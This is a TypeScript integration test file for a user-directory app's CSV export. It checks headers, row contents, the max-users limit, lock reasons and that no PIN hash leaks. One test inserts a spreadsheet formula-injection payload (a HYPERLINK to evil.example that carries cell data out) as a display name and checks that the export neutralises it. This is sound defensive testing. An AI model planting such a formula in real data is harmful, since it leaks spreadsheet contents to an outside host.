/**
 * Export to CSV over real HTTP: each row must say what POST /api/users/search and POST /api/pins/status
 * answer for the same search, given as the page-URL parameters the Users page holds.
 */

import { parseCsv } from "@pindesk/domain/csv/test-support/parse-csv";
import type { PinStatusResponse } from "@pindesk/domain/pins/pin-api";
import type { FilterOperator, FilterProperty } from "@pindesk/domain/users/filter-catalogue";
import type { SearchQuery } from "@pindesk/domain/users/search-query";
import { searchQueryToParams } from "@pindesk/domain/users/search-url";
import type { SearchResponse } from "@pindesk/domain/users/user";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertDirectoryUsers } from "../../core/directory/directory-writer.ts";
import { startTestApp, type TestApp } from "../../test/test-app.ts";
import { TEST_ENGINES } from "../../test/test-database.ts";

/** The exact header line: the table's columns, then the PIN status fields. */
const HEADER = (
  "Display name,SIP address,Line URI,Registrar pool,Enabled,PIN set,PIN locked,Lock reason," +
  "Last PIN change time,PIN expiration time,Failed attempts,Total failed attempts,Temporary lockout ends"
).split(",");

const query = (input: Partial<SearchQuery>): SearchQuery => ({
  mode: "Search",
  maxUsers: 200,
  filters: [],
  ...input,
});
const clause = (property: FilterProperty, operator: FilterOperator, value: string) => ({
  property,
  operator,
  value,
});

const QUERIES: [string, SearchQuery][] = [
  ["everyone", query({})],
  [
    "Search with text and filters",
    query({ searchText: "k", filters: [clause("IsPinSet", "EqualTo", "True")] }),
  ],
  ["Search with filters only", query({ filters: [clause("Site", "EqualTo", "Redmond")] })],
  [
    "LDAP Search with a filter clause",
    query({
      mode: "LdapSearch",
      ldapFilter: "(|(title=Manager)(title=Supervisor)(sn=S*))",
      filters: [clause("Enabled", "EqualTo", "True")],
    }),
  ],
  ["locked PINs", query({ filters: [clause("IsLockedOut", "EqualTo", "True")] })],
];

const text = (value: string | null) => value ?? "";
const yesNo = (value: boolean) => (value ? "Yes" : "No");

describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp(engine);
  });
  afterAll(() => app?.close());

  const download = (search: SearchQuery) =>
    app.get<string>(`/api/users/export.csv?${searchQueryToParams(search)}`);
  const rowsOf = async (search: SearchQuery) => {
    const response = await download(search);
    expect(response.status, response.body).toBe(200);
    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual(HEADER);
    return rows;
  };
  /** The rows the export must hold, from the two JSON answers for the same query. */
  const expectedRows = async (search: SearchQuery) => {
    const found = await app.post<SearchResponse>("/api/users/search", search);
    const pins = await app.post<PinStatusResponse>("/api/pins/status", { query: search });
    expect(pins.body.statuses.map((entry) => entry.userId)).toEqual(found.body.users.map((user) => user.id));
    return found.body.users.map((user, i) => {
      const pin = pins.body.statuses[i]?.status;
      if (!pin) throw new Error(`no PIN status for ${user.displayName}`);
      return [
        user.displayName,
        text(user.sipAddress),
        text(user.lineUri),
        text(user.registrarPool),
        yesNo(user.enabled),
        yesNo(user.isPinSet),
        yesNo(user.isLockedOut),
        text(pin.lockReason),
        text(pin.lastPinChangeTime),
        text(pin.pinExpirationTime),
        String(pin.failedAttempts),
        String(pin.totalFailedAttempts),
        text(pin.temporaryLockoutEnds),
      ];
    });
  };

  it("answers a CSV attachment named for the server's date", async () => {
    const response = await download(query({}));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="pindesk-users-2026-11-23.csv"',
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.body.startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
  });

  it.each(QUERIES)("holds one row per user the search finds, in its order: %s", async (_what, search) => {
    const expected = await expectedRows(search);
    expect(expected.length).toBeGreaterThan(0);
    expect(await rowsOf(search)).toEqual(expected);
  });

  it("shows every lock reason and failure count the PIN status has", async () => {
    const rows = await rowsOf(query({ filters: [clause("IsPinSet", "EqualTo", "True")] }));
    const reasons = new Set(rows.map((row) => row[HEADER.indexOf("Lock reason")]));
    expect(reasons).toEqual(new Set(["", "Administrator", "TooManyAttempts", "Temporary"]));
  });

  it("stops at Maximum users to display", async () => {
    const search = query({ maxUsers: 7 });
    const rows = await rowsOf(search);
    expect(rows).toHaveLength(7);
    expect(rows).toEqual(await expectedRows(search));
  });

  it("quotes commas and quotes, and neutralises a formula typed into the directory", async () => {
    await insertDirectoryUsers(app.db, [
      {
        displayName: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
        firstName: null,
        lastName: null,
        samAccountName: "mallory",
        netbiosDomain: "LITWAREINC",
        userPrincipalName: "mallory@litwareinc.com",
        sipAddress: "sip:mallory@litwareinc.com",
        lineUri: null,
        distinguishedName: "CN=Mallory,OU=Sales,DC=litwareinc,DC=com",
        department: null,
        title: null,
        office: null,
        company: null,
        city: null,
        registrarPoolId: null,
        enabled: true,
        enterpriseVoiceEnabled: false,
        pinPolicyId: null,
        protected: false,
      },
    ]);
    const response = await download(query({ searchText: "mallory" }));
    expect(response.body).toContain(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",sip:mallory@litwareinc.com,',
    );
    expect(parseCsv(response.body)[1]?.[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Details")');
  });

  it("never holds a PIN hash", async () => {
    const response = await download(query({ maxUsers: 10_000 }));
    expect(response.body).not.toMatch(/argon2|\$v=/);
  });
});
